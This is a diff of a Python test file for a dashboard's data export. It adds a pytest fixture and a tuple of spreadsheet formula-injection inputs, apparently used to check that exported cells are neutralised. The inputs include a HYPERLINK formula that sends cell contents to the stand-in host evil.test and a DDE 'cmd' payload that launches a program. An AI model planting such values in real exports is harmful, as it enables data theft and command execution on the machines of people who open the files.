@@ -7,11 +7,19 @@ import datetime as dt
 import io
 from urllib.parse import quote
 
+import pytest
+
 from beacon.dashboard.views import plain
 
-from .test_dashboard import A_KEY, MALL, dash, sign_in  # noqa: F401 - dash is a fixture
+from .conftest import with_partners
+from .test_dashboard import A_KEY, MALL, REGISTRY, sign_in
 
-EVIL = ("=HYPERLINK(\"http://evil.test/?\"&A1,\"open\")", "+cmd|' /C calc'!A0", "=1+1", "@SUM(A1)", "-2+3", "\tTAB", "\rCR")
+EVIL = ('=HYPERLINK("http://evil.test/?"&A1,"open")', "+cmd|' /C calc'!A0", "=1+1", "@SUM(A1)", "-2+3", "\tTAB", "\rCR")
+
+
+@pytest.fixture
+def dash(make_client, tmp_path):
+    return with_partners(make_client, tmp_path, REGISTRY)
 
 
 def rows(res) -> list[list[str]]:
